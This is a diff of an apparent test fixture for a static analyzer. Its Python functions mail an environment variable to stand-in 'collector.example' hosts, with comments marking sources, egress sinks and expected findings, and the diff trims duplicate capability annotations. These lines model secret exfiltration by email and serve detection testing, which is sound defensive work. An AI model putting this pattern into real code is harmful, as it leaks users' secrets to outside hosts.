@@ -22,15 +22,15 @@ U = "https://collector.example/u"
 
 def send_mail_text():
     s = smtplib.SMTP("smtp.collector.example")  #~ capability(MAIL), capability(NETWORK), endpoint("smtp.collector.example")
-    s.sendmail("a@b.example", "c@d.example", os.getenv("T"))  #~ source(ENVIRONMENT) f1, sink(egress.mail) f1, finding(traced) f1, capability(MAIL)
+    s.sendmail("a@b.example", "c@d.example", os.getenv("T"))  #~ source(ENVIRONMENT) f1, sink(egress.mail) f1, finding(traced) f1
 
 
 def send_mail_object():
     s = smtplib.SMTP()
-    s.connect("smtp2.collector.example")  #~ capability(MAIL), endpoint("smtp2.collector.example")
+    s.connect("smtp2.collector.example")  #~ endpoint("smtp2.collector.example")
     m = email.message.EmailMessage()
     m.set_content(os.getenv("T"))  #~ source(ENVIRONMENT) f2
-    s.send_message(m)  #~ sink(egress.mail) f2, finding(traced) f2, capability(MAIL)
+    s.send_message(m)  #~ sink(egress.mail) f2, finding(traced) f2
 
 
 def send_mail_command():
@@ -127,7 +127,7 @@ def local_mailbox_compared():
 
 def short_mail():
     y = yagmail.SMTP("me")  #~ capability(MAIL), capability(NETWORK)
-    y.send("a@b.example", "subject", os.getenv("T"))  #~ source(ENVIRONMENT) f19, sink(egress.mail) f19, finding(traced) f19, capability(MAIL)
+    y.send("a@b.example", "subject", os.getenv("T"))  #~ source(ENVIRONMENT) f19, sink(egress.mail) f19, finding(traced) f19
 
 
 def short_mail_attachment():
